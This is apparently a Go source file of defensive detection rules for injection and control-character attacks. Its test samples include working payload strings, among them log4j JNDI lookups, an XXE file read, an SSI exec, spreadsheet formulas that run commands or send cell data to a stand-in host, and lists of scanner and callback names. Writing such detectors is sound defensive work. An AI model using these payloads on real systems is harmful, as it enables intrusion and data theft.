package detect

// lookupRules are the rules for languages that look things up: templates, LDAP, XPath, NoSQL, log4j, XML, SSI.
func lookupRules() []Rule {
	return []Rule{
		{ID: "injection-lookup", Class: Injection, Form: Squeezed, Why: "a lookup as log4j does them",
			Any:     []string{"${"},
			Pattern: `\$\{(jndi|\$\{|lower|upper|env|sys|java|date|ctx|main|web|log4j|map|sd|docker|k8s|spring|bundle|marker|script|url|dns|::|base64|const|file|properties|resourcebundle|xml|urldecoder|[\w.:]*:-\w\}|[\w.:]*:-\$)`,
			Hits:    []string{"${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x}", "${script:js:1}"},
			Misses:  []string{"$ {name}", "US$ {100}"}},
		{ID: "injection-jndi", Class: Injection, Form: Squeezed, Why: "a naming URL",
			Any:    []string{"jndi:", "rmi://", "ldaps://", "iiop:", "corba:"},
			Hits:   []string{"jndi:ldap://x", "rmi://x/y"},
			Misses: []string{"jndi tutorial"}},
		{ID: "injection-template", Class: Injection, Weak: true, Why: "an expression of a template engine",
			Any:     []string{"{{", "${", "#{", "<%", "*{", "@{", "{%", "[[", "<#", "[#", "{php}", "#set", "#exec", "@(", "{$"},
			Pattern: `(\{\{.{0,200}[*+.|(\['"/%<>=\-@#]|\{\{\s*(config|self|request|settings?|debug|g|app|session|this|x|a|dump|env|user|constructor)\s*\}\}|\$\{[^}:]*[.(*+'"\[]|#\{[^}]{0,200}[^\w\s}][^}]{0,200}\}|#\{\s*(config|self|request|session|env|user|this|settings?|params|root|app)\s*\}|<%[=@!-]?.{0,200}%>|\*\{[^}]{1,200}\}|@\{[^}]{1,200}\}|\{%.{0,200}%\}|\[\[\$?\{|[<\[]#(assign|list|include|if|import) |\{php\}|\{\$smarty|#set ?\(|#exec\b|@\(\d|\{\$[\w.]+\})`,
			Hits:    []string{"{{7*7}}", "{{config}}", "${7*7}", "#{3*3}", "#{session}", "<%= 1 %>", "{{request|attr('x')}}"},
			Misses:  []string{"{ok}", "#hashtag", "price in ${", "a {{", "Dear {{name}},", "Dear #{name}", "directories under ${1:-.} alone"}},
		{ID: "injection-ldap", Class: Injection, Weak: true, Why: "parts of an LDAP filter",
			Any:     []string{"*)", "(&", "(|", "(!", ")!(", ")&(", ")|(", "objectclass", "userpassword", ")(", "2.5.13", "|(", "&(", "*("},
			Pattern: `(\*\)?\s*\(\s*[|&!]|\*\(\)\||\(\s*[&|!]\s*\(|\)\s*\(\s*[\w-]+\s*[~<>]?=|\)[!&|]\(|\)\([&|!]\)|\(objectclass\s*=|objectclass\s*=\s*\*|userpassword\s*[=:]|:?2\.5\.13\.\d|\*\)\(\w+=|\)\)\(\||\*\(\||\)\(\|\(|\(\w{1,20}\s*[~<>]?=\*\))`,
			Hits:    []string{"*)(uid=*))(|(uid=*", "(&(uid=admin)(!(x=1)))", "userPassword:2.5.13.18:=123"},
			Misses:  []string{"a (b) (c)", "5 * (2 + 3)", "R&D"}},
		{ID: "injection-xpath", Class: Injection, Weak: true, Why: "parts of an XPath expression",
			Any:     []string{"::", "/@", "count(", "position()", "text()", "node()", "string-length(", "name(", "substring(", "doc(", "["},
			Pattern: `(\b(child|parent|ancestor(-or-self)?|descendant(-or-self)?|self|attribute|following(-sibling)?|preceding(-sibling)?)::|\bcount ?\( ?[/.]|position\(\)|\b(text|node|comment)\(\)|string-length ?\( ?(//|\w|'|\.)|\bname ?\( ?/|//\w+\[|\[@[\w-]+ ?=|/@\*|\bdoc ?\(['"])`,
			Hits:    []string{"count(/child::node())", "' and count(/@*)=1 and '1'='1", "//user[name='x']", "'] | user[@role='x"},
			Misses:  []string{"std::vector", "https://example.com/@name", "count (all)"}},
		{ID: "injection-nosql", Class: Injection, Form: Spaced, Why: "an operator or call of a document store",
			Any:     []string{"$ne", "$gt", "$lt", "$or", "$and", "$nin", "$in", "$regex", "$where", "$exists", "$eq", "$not", "$nor", "&exists", "db.", "this.", "mapreduce", "$func", "$expr", "$elem", "new date", "||", "sleep(", "$jsonschema", "$lookup"},
			Pattern: `((^|[\[{"'\s,(])(&exists|\$(ne|gte?|lte?|or|and|nin|in|regex|where|exists|eq|not|nor|func|expr|elemmatch|all|size|type|mod|options|comment|jsonschema|lookup))\b['"]?\s*(\]|:|=|$)|\bdb\.\w+\.(insert|find|drop|remove|update|save|aggregate|count|distinct|getcollection)|\bthis\.\w+\s*(\.match|[=!<>(\[]|\.\w+\()|\bmapreduce\s*\(|new ?(\+|%20)?date ?\(\)|^\s*\|\|\s*\d|[;'"]\s*sleep ?\(|return\s+(true|false|1)\s*;)`,
			Hits:    []string{"{$gt: ''}", "[$ne]=1", "true, $where: '99 == 88'", "' && this.password.match(/.*/)//"},
			Misses:  []string{"$100", "this. is it", "US$ in 2024", "$1 is not enough"}},
		{ID: "injection-xml", Class: Injection, Why: "an XML entity, stylesheet or include",
			Any:    []string{"<!entity", "<!doctype", "<!attlist", "<xsl:", "xi:include", "<?xml-stylesheet", "<![cdata[", "system \"", "<!element"},
			Hits:   []string{"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]>", "<xi:include href='x'/>"},
			Misses: []string{"doctype html", "entity relations"}},
		{ID: "injection-entity", Class: Injection, Why: "a parameter entity of XML",
			Any:     []string{"%"},
			Pattern: `^\s*%[a-z][\w.-]*;\s*$`,
			Hits:    []string{"%foo;"},
			Misses:  []string{"50%; more", "%s"}},
		{ID: "injection-formula", Class: Injection, Weak: true, Why: "a formula that a spreadsheet runs or sends away, once the value is exported to one",
			Any:     []string{"cmd|", "'!a", "|'", "hyperlink(", "importxml(", "importdata(", "importhtml(", "importfeed(", "importrange(", "webservice(", "rtd(", "dde("},
			Needs:   "=+-@",
			Pattern: `^[\s"']*[=+\-@][^a-z]{0,8}(([\w.+\-*()/ ]{0,40}[*+\-/(])?(cmd|[\w.]+)\|\s*['"]|(hyperlink|import(xml|data|html|feed|range)|webservice|rtd|dde)\()`,
			Hits:    []string{"=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", `=HYPERLINK("http://x.example/?"&A1,"x")`, `+IMPORTXML("http://x.example/","//a")`},
			Misses:  []string{"=SUM(A1:A9)", "+49 30 1234", "-a|b", "@name | Sales"}},
		{ID: "injection-ssi", Class: Injection, Why: "a server-side include",
			Any:    []string{"<!--#", "<esi:", "<!--esi"},
			Hits:   []string{`<!--#exec cmd="id" -->`, "<esi:include src=x>"},
			Misses: []string{"<- # 1"}},
	}
}

// agentRules are the rules for tools that look for weaknesses, by what they call themselves, and for the names under which
// they wait for an answer.
func agentRules() []Rule {
	return []Rule{
		{ID: "injection-scanner", Class: Injection, Only: in(Agent), Why: "a user agent of a tool that attacks; what only surveys the Internet is none",
			Any:     []string{"sqlmap", "nuclei", "openvas", "nessus", "acunetix", "netsparker", "invicti", "w3af", "havij", ".nasl", "commix", "xsser", "fimap", "jaeles", "feroxbuster", "wpscan", "projectdiscovery", "_injection", "zmeu"},
			Pattern: `(\bsqlmap[/ ]|\bnuclei\b.{0,40}(project|scan|engine|/)|projectdiscovery|openvas|\bnessus\b|acunetix|netsparker|\binvicti|\bw3af|\bhavij\b|\.nasl\b|\bcommix|\bxsser\b|\bfimap|\bjaeles|feroxbuster|\bwpscan|(sql|command|code|xss)_injection|\bzmeu\b)`,
			Hits:    []string{"sqlmap/1.7", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "OpenVAS", "x_sql_injection.nasl"},
			Misses:  []string{"Mozilla/5.0 (X11; Linux x86_64)", "OpenAI/Python 1.54.3", "NucleiBrowser", "curl/8.5.0", "WhatWeb/0.4.8", "masscan/1.0"}},
		{ID: "injection-callback", Class: Injection, Why: "a name under which a tool waits to hear that its attack ran",
			Any:     []string{"burpcollaborator.net", "oastify.com", "interact.sh", "oast.", "dnslog.cn", "ceye.io", "bxss.me", "xss.ht", "canarytokens.", "requestrepo.com"},
			Pattern: `\w\.(burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(me|pro|live|site|online|fun)|dnslog\.cn|ceye\.io|bxss\.me|xss\.ht|canarytokens\.(com|org)|requestrepo\.com)`,
			Hits:    []string{"http://lmb1ikpej3.burpcollaborator.net/", "x.oast.fun"},
			Misses:  []string{"toast.fun", "what is oastify.com"}},
	}
}

// controlRules are the rules for line ends and NUL where neither can be.
func controlRules() []Rule {
	return []Rule{
		{ID: "control-header", Class: Control, Why: "a line end followed by a header or a status line",
			Any:     []string{"\n", "\r", "%0d", "%0a"},
			Pattern: `(%0d%0a|%0a%0d|\r\n\r\n<)|[\r\n]\s*(set-cookie|location|content-(type|length|encoding|disposition|security-policy)|contenttype|contentlength|x-[\w-]+|transfer-encoding|host|refresh|link|access-control-[\w-]+|cookie|referer|bcc|cc|to|from|subject|mime-version)\s*:|[\r\n]\s*http/\d\.`,
			Hits:    []string{"x\r\nSet-Cookie: a=b", "\r\nHTTP/1.1 200 OK"},
			Misses:  []string{"first line: second line"}},
		{ID: "control-protocol", Class: Control, Why: "a line end followed by a command of a mail, cache or database server",
			Any:     []string{"\n", "\r"},
			Pattern: `[\r\n]\s*((quit|noop|rset|data|flush_all|flushall|shutdown|starttls|capability|logout|ehlo|stat|slaveof|bgsave|save)\s*([\r\n]|$)|(rcpt to|mail from|ehlo|helo|vrfy|expn|auth login|auth plain)[ :<]|\w{1,6}\d{1,6} (capability|login|fetch|select|examine|noop|logout|list|lsub|search|store|append|status|authenticate|starttls|create|delete)\b|(config set|slaveof|eval) \S+ \S|(set|add|replace|append) \S{1,80} \d+ \d+ \d+\s*[\r\n]|\*\d+\r\n\$\d+\r\n)`,
			Hits:    []string{"\r\nQUIT\r\n", "x\nRCPT TO: a@b", "\r\nV100 CAPABILITY\r\nV101 FETCH 4791", "\r\nCONFIG SET dir /tmp", "\r\nset k 0 0 5\r\nhello"},
			Misses:  []string{"do not\nquit smoking", "the list\nof data", "stat\nus", "Mail\nfrom home", "first\nsave money"}},
		{ID: "control-edge", Class: Control, Only: in(Query), Why: "a value of a query that begins with a line end, or holds NUL",
			Any:     []string{"\r", "\n", "\x00"},
			Pattern: `(^\s*[\r\n]|\x00|\r\n\r\n\S+\s*:|^[^ ]{0,80}[%:=<;][^ ]{0,80}[\r\n][^ ]{0,160}$|^[^ ]{0,80}[\r\n][^ ]{0,80}[%:=<;][^ ]{0,80}$)`,
			Hits:    []string{"\r\nV100 X", "x\x00.png", "%0\r\nD%0\r\nA"},
			Misses:  []string{"a b", "apple\r\npear", "Give a description.\n\nPeriod Dramas"}},
		{ID: "control-line", Class: Control, Only: in(Row, Target), Why: "CR, LF or NUL in a value that is one line",
			Any:    []string{"\r", "\n", "\x00"},
			Hits:   []string{"a\r\nb", "x\x00.png"},
			Misses: []string{"a b"}},
	}
}
